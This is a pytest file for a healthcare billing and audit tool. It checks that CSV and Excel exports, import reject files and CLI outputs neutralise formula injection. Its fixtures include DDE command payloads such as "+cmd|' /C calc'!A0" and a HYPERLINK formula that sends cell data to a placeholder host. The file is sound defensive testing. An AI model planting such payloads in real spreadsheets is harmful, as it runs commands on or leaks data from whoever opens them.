"""Issue 13 item 1: no cell written to a CSV or Excel file can run as a formula (OWASP CSV injection).

Every writer goes through ccm_core/io/spreadsheet.py: the page downloads, the audit exports, the import
problem / rejected-row files and the command-line CSV outputs.  Text cells that start with ``=``, ``+``,
``-``, ``@``, tab or carriage return get a leading apostrophe; numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select

from ccm_core import cli
from ccm_core.audit import sampling
from ccm_core.io import exports, spreadsheet
from ccm_core.storage import schema as s

from builders import Builder

D = dt.date
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(data: bytes) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _no_formula_text(cells) -> None:
    for v in cells:
        if isinstance(v, str) and v:
            assert v[0] not in TRIGGERS or spreadsheet._PLAIN_NUMBER.fullmatch(v), repr(v)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_trigger_is_neutralised_and_the_text_is_kept(payload):
    assert spreadsheet.neutralise(payload) == "'" + payload


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    for v in (-5, -12.5, 0, 3, None, float("nan"), D(2025, 1, 2), "Alvarez", "", "5-2", "a=b", "'quoted"):
        out = spreadsheet.neutralise(v)
        assert out is v or out == v or (out != out and v != v)
    for text_number in ("-5", "+1.25", "-0.5", "-1e3", ".5"):  # a plain number cannot be a formula
        assert spreadsheet.neutralise(text_number) == text_number


def test_page_downloads_csv_and_excel_carry_no_live_formula():
    from ui.exports import to_csv_bytes, to_excel_bytes

    df = pd.DataFrame(
        {"patient_name": PAYLOADS, "charge": [-25.5, 10.0, -1.0, 0.0, 2.0, 3.0], "minutes": [-5, 19, 20, 21, 22, 23]}
    )
    rows = _csv_cells(to_csv_bytes(df))
    assert rows[0] == ["patient_name", "charge", "minutes"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][1:] == ["-25.5", "-5"]  # negative numbers are written as numbers, not neutralised
    wb = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df, "worklist")))
    ws = wb["worklist"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cell in the workbook"
    names = [ws.cell(row=i, column=1).value for i in range(2, 2 + len(PAYLOADS))]
    assert names == ["'" + p.replace("\r", "\n") for p in PAYLOADS]  # xlsx (XML) stores a CR as LF
    assert ws.cell(row=2, column=2).value == -25.5 and ws.cell(row=2, column=3).value == -5  # numeric cells


@pytest.fixture
def hostile_sample(engine):
    """One billed patient-month whose name, MRN and note are formula payloads; the sample is saved."""
    with engine.begin() as conn:
        b = Builder(conn)
        p = b.enrolled_patient(last_name=PAYLOADS[0], first_name="@SUM(1)", mrn="+MRN1", payer="=Payer()")
        b.visit(p, on=D(2024, 12, 1))
        b.times(p, [12, 13], on=D(2025, 3, 3), note="=cmd|' /C calc'!A0")
        b.claim(p, [("99490", 1)], dos=D(2025, 3, 31))
        smp = sampling.pull_sample(conn, sampling.SampleRequest(202503, 202503, size=1, seed=1))
        sid = sampling.save_sample(conn, smp, "auditor1", name="=HYPERLINK(1)")
        item = int(sampling.load_sample(conn, sid).items["item_id"][0])
        sampling.record_finding(conn, item, "consent", "disagree", "auditor1", "-1+1 looks wrong", "pass")
    return engine, sid


def test_audit_findings_csv_and_excel_carry_no_live_formula(hostile_sample):
    engine, sid = hostile_sample
    with engine.connect() as conn:
        csv_data = exports.findings_csv_bytes(conn, sid)
        xlsx = exports.findings_excel_bytes(conn, sid)
    rows = _csv_cells(csv_data)
    flat = [v for r in rows for v in r]
    _no_formula_text(flat)
    assert "'+MRN1" in flat and "'-1+1 looks wrong" in flat
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    for ws in wb.worksheets:
        cells = [c for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], ws.title
        _no_formula_text([c.value for c in cells])
    sample_sheet = {r[0]: r[1] for r in wb["Sample"].iter_rows(min_row=2, values_only=True)}
    assert sample_sheet["Sample"] == f"#{sid} =HYPERLINK(1)"  # text in the middle of a cell is harmless


def test_import_rejected_rows_and_problems_files_are_neutralised():
    from ccm_core.io.imports.runner import FileResult, ImportRun, problems_csv

    fr = FileResult(
        source="=x.csv",
        kind="patients",
        sha256="0",
        problems=pd.DataFrame({"file": ["=x.csv"], "row": [3], "column": ["mrn"], "problem": ["+bad"]}),
        rejected_rows=pd.DataFrame({"mrn": ["=1+1"], "minutes": ["-5"], "note": ["@evil"]}),
    )
    assert _csv_cells(fr.rejected_csv())[1] == ["'=1+1", "-5", "'@evil"]
    run = ImportRun(files=[fr], committed=False, dry_run=True, accept_valid=False, message="")
    assert _csv_cells(problems_csv(run))[1] == ["'=x.csv", "3", "mrn", "'+bad"]


def _run(capsys, *argv) -> tuple[int, str]:
    rc = cli.main(list(argv))
    return rc, capsys.readouterr().out


def test_cli_csv_outputs_are_neutralised_and_logged_before_printing(engine, capsys):
    url = engine.url.render_as_string(hide_password=False)
    with engine.begin() as conn:
        b = Builder(conn)
        for payer in ("=Payer()", "@Payer"):
            p = b.enrolled_patient(payer=payer)
            b.visit(p, on=D(2024, 12, 1))
            b.times(p, [12, 13], on=D(2025, 3, 3))
            b.claim(p, [("99490", 1)], dos=D(2025, 3, 31))
    rc, out = _run(capsys, "billing", "--db", url, "--month", "2025-03", "--format", "csv", "--user", "biller1")
    assert rc == 0
    rows = _csv_cells(out.encode())
    payer_col = rows[0].index("payer")
    assert sorted(r[payer_col] for r in rows[1:]) == ["'=Payer()", "'@Payer"]
    _no_formula_text([v for r in rows for v in r])
    rc, out = _run(capsys, "audit", "--db", url, "--month", "2025-03", "--format", "csv", "--user", "auditor1")
    assert rc == 0
    rc, out = _run(
        capsys,
        "sample",
        "--db",
        url,
        "--from",
        "2025-03",
        "--to",
        "2025-03",
        "--size",
        "2",
        "--seed",
        "1",
        "--format",
        "csv",
        "--user",
        "auditor1",
    )
    assert rc == 0
    with engine.connect() as conn:
        log = conn.execute(
            select(
                s.access_log.c.username,
                s.access_log.c.action,
                s.access_log.c.page,
                s.access_log.c.patient_count,
                s.access_log.c.detail,
            ).order_by(s.access_log.c.id)
        ).all()
    assert [(r[0], r[1], r[2], r[3]) for r in log] == [
        ("biller1", "export", "cli", 2),
        ("auditor1", "export", "cli", 2),
        ("auditor1", "export", "cli", 2),
    ]
    assert [r[4].split(":")[0] for r in log] == ["billing", "audit", "sample"]
